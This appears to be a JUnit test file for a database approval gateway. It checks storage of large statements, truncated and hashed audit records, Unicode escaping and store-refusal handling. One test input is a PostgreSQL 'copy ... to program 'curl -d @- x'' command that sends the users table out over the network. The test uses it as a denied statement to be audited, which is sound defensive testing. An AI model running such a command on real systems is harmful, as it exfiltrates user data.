package dev.gatehouse.approvals;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.gatehouse.approvals.audit.AuditText;
import dev.gatehouse.approvals.audit.AuditVerifier;
import dev.gatehouse.approvals.audit.CanonicalJson;
import dev.gatehouse.approvals.store.Store;
import dev.gatehouse.approvals.store.StoreRefusedException;
import dev.gatehouse.policy.Decision;
import dev.gatehouse.policy.Verdict;
import dev.gatehouse.sql.Dialect;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Issues 11 and 14 on each real store: requests keep statements and bound values of any size; audit records
 * keep a bounded prefix plus the whole text's SHA-256; any Java string is audited and exported; {@code verify}
 * and {@code export} agree; a store that answers with a refusal is not reported as down.
 */
class StoreLimitsTest {
    private static final int MIB = 1024 * 1024;
    private static final Source SRC = new Source(Source.Channel.PROXY, "10.0.0.9", "psql", "shop");
    private static final Decision DENY = new Decision(new Verdict.Deny(List.of(), "no exports"), List.of(), "p1");

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"h2", "postgres", "mysql"})
    void largeHeldLargeDeniedAndUnpairedSurrogatesAreKeptAuditedAndExported(String kind) throws Exception {
        TestStores ts = TestStores.of(kind);
        Path exported = Files.createTempFile("gatehouse-export-", ".jsonl");
        try (Store store = ts.open();
             ApprovalService s = new ApprovalService(store, Submissions.APPROVERS, ServiceOptions.defaults(), null)) {
            // 1. A 5 MiB held statement with a 1 MiB bound value: stored whole, read back identical, approved, claimed once.
            String held = statement("insert into big_t values ", 5 * MIB);
            String value = "v".repeat(MIB - 3) + "é\uD83D\uDE00"; // multibyte and a pair at the very end
            Submission sub = Submissions.of("agent-7", null, held, List.of(value), Submissions.dba(1));
            String id = s.open(sub).requestId();
            ApprovalRequest back = s.find(id).orElseThrow();
            assertEquals(utf8Sha256(held), utf8Sha256(back.sql()), "the held statement reads back identical");
            assertEquals(held.length(), back.sql().length());
            assertEquals(utf8Sha256(value), utf8Sha256(back.parameters().get(0)), "the bound value reads back identical");
            assertInstanceOf(VoteResult.Recorded.class, s.vote(id, "alice", Vote.Choice.APPROVE, "bulk load", "api"));
            assertEquals(RequestState.APPROVED, s.find(id).orElseThrow().state());
            assertTrue(s.claim(id, sub), "the approval runs the statement");
            assertFalse(s.claim(id, sub), "once");

            // 2. A 5 MiB denied statement (over H2's old 1,000,000-character column) is audited as prefix + hash.
            String denied = statement("copy (select * from users) to program 'curl -d @- x' -- ", 5 * MIB);
            s.auditDecision("agent-7", null, SRC, denied, List.of(), DENY, "a1", Dialect.POSTGRES);

            // 3. A lone surrogate, NUL and control characters: audited, never fatal.
            String odd = "select '\uD800' || 'x\uDC00y' || '\u0000\u0001\u001f\u007f\u2028' || '\uD83D\uDE00'";
            s.auditDecision("agent-\uDFFF", null, SRC, odd, List.of("p\uD801", "\u0000"), DENY, "a1", Dialect.POSTGRES);

            AuditVerifier.Result verified = AuditVerifier.verify(store);
            assertTrue(verified.ok(), verified.toString());
            // request.created, vote.cast, request.approved, request.consumed, two denials
            assertEquals(6, verified.records());

            // Exported through a strict UTF-8 writer, which throws on any unpaired surrogate it is given.
            AuditVerifier.Exported e;
            try (Writer w = Files.newBufferedWriter(exported, StandardCharsets.UTF_8)) {
                e = AuditVerifier.export(store, w);
            }
            assertEquals(new AuditVerifier.Exported(6, 0), e, "export and verify agree");
            List<String> lines = Files.readAllLines(exported, StandardCharsets.UTF_8);
            assertEquals(6, lines.size());

            Map<String, Object> created = data(lines.get(0));
            assertEquals("request.created", CanonicalJson.read(lines.get(0)).get("type"));
            assertTruncated(created, held);
            assertEquals(Boolean.TRUE, created.get("parameters_truncated"));
            assertEquals(1, created.get("parameters_count"));
            assertEquals(AuditText.MAX_PARAMETER_BYTES, utf8(((List<?>) created.get("parameters")).get(0).toString()).length);
            assertEquals(AuditText.sha256(CanonicalJson.write(List.of(value))), created.get("parameters_sha256"));

            Map<String, Object> deniedRecord = data(lines.get(4));
            assertEquals("decision.deny", CanonicalJson.read(lines.get(4)).get("type"));
            assertTruncated(deniedRecord, denied);

            Map<String, Object> oddRecord = data(lines.get(5));
            assertEquals(odd, oddRecord.get("sql"), "escaped in the record, read back to the very same string");
            assertEquals("agent-\uDFFF", oddRecord.get("principal"));
            assertEquals(List.of("p\uD801", "\u0000"), oddRecord.get("parameters"));
            assertNull(oddRecord.get("sql_truncated"), "short: kept whole, nothing added");
            assertTrue(lines.get(5).contains("\\uD800") && lines.get(5).contains("\\u0000"), lines.get(5));
        } finally {
            Files.deleteIfExists(exported);
            ts.drop();
        }
    }

    /** PostgreSQL text cannot hold NUL: the store answers with a refusal, which is not "store unavailable". */
    @org.junit.jupiter.api.Test
    void aValueTheStoreCannotHoldIsRefusedAndTheBreakerStaysClosed() {
        TestStores ts = TestStores.postgres();
        try (Store store = ts.open();
             ApprovalService s = new ApprovalService(store, Submissions.APPROVERS, ServiceOptions.defaults(), null)) {
            Submission nul = Submissions.simple("select 'a\u0000b'", Submissions.dba(1));
            StoreRefusedException e = assertThrows(StoreRefusedException.class, () -> s.open(nul));
            assertTrue(e.sqlState().startsWith("22"), e.getMessage());
            assertTrue(store.breaker().isClosed(), "the store answered: the breaker stays closed");
            assertTrue(s.storeAnswers());
            // Its denial, whose record escapes the NUL, is audited on the same store.
            s.auditDecision("agent-7", null, SRC, "select 'a\u0000b'", List.of(), DENY, "a1", Dialect.POSTGRES);
            assertTrue(AuditVerifier.verify(store).ok());
        } finally {
            ts.drop();
        }
    }

    /**
     * MySQL refuses a packet over {@code max_allowed_packet} (16 MiB on the test server): Connector/J says so before
     * sending, the connection is fine, the breaker stays closed and the next request is kept.
     */
    @org.junit.jupiter.api.Test
    void aRequestOverMysqlsPacketLimitIsRefusedNotDown() throws Exception {
        TestStores ts = TestStores.mysql();
        try (Store store = ts.open();
             ApprovalService s = new ApprovalService(store, Submissions.APPROVERS, ServiceOptions.defaults(), null)) {
            long packet = store.inTransaction(c -> {
                try (var st = c.createStatement(); var rs = st.executeQuery("SELECT @@max_allowed_packet")) {
                    rs.next();
                    return rs.getLong(1);
                }
            });
            String tooBig = statement("insert into t values ", (int) Math.min(packet + MIB, 256L * MIB));
            StoreRefusedException e = assertThrows(StoreRefusedException.class,
                    () -> s.open(Submissions.simple(tooBig, Submissions.dba(1))));
            assertTrue(store.breaker().isClosed(), "refused, not down: " + e.getMessage());
            assertTrue(s.open(Submissions.simple("delete from t", Submissions.dba(1))).requestId().length() > 0);
        } finally {
            ts.drop();
        }
    }

    private static void assertTruncated(Map<String, Object> data, String whole) {
        String prefix = (String) data.get("sql");
        assertEquals(Boolean.TRUE, data.get("sql_truncated"));
        assertTrue(whole.startsWith(prefix));
        int size = utf8(prefix).length;
        assertTrue(size <= AuditText.MAX_SQL_BYTES && size > AuditText.MAX_SQL_BYTES - 4, "the prefix fills the bound: " + size);
        assertEquals((long) utf8(whole).length, ((Number) data.get("sql_bytes")).longValue());
        assertEquals(utf8Sha256(whole), data.get("sql_sha256"), "the SHA-256 of the whole text, as sha256sum gives it");
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> data(String line) {
        return (Map<String, Object>) CanonicalJson.read(line).get("data");
    }

    /** An INSERT of about {@code bytes} UTF-8 bytes, with some multibyte text so a cut could split a character. */
    static String statement(String head, int bytes) {
        StringBuilder b = new StringBuilder(bytes).append(head);
        int row = 0;
        while (b.length() < bytes - 64) {
            b.append(row == 0 ? "" : ", ").append("(").append(row++).append(", 'naïve ").append(row).append("')");
        }
        return b.toString();
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static String utf8Sha256(String s) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(utf8(s)));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
